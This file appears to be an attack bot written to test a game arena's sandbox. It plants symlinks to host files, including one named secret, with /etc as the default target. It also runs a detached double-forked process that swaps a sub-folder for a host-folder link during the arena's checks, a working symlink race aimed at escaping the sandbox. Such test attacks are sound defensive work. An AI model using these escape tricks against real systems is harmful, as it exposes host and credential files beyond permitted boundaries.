"""Attack: links out of the team folder, and a sub-folder swapped for a link while the arena polices it.

Leaves links to a host folder (its path comes from the given help file canary.txt), fills a sub-folder
past the help-file limit, and leaves a detached process swapping that sub-folder for a link to the host
folder and back. Answers 0 (call) every time, like bots/codem/Caller.py.
"""
import os
import time

canary = open("canary.txt").read().strip() if os.path.exists("canary.txt") else "/etc"
for name, target in (("tree", canary), ("note", f"{canary}/note.txt"), ("secret", f"{canary}/secret.txt")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
os.makedirs("d", exist_ok=True)
for number in range(20):
    open(f"d/f{number}", "w").close()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 3
        while time.monotonic() < end:
            try:
                os.rename("d", "d.real")
                os.symlink(canary, "d")
                os.unlink("d")
                os.rename("d.real", "d")
            except OSError:
                pass
    os._exit(0)
with open("outputf.txt", "w") as answer:
    answer.write("0\n")
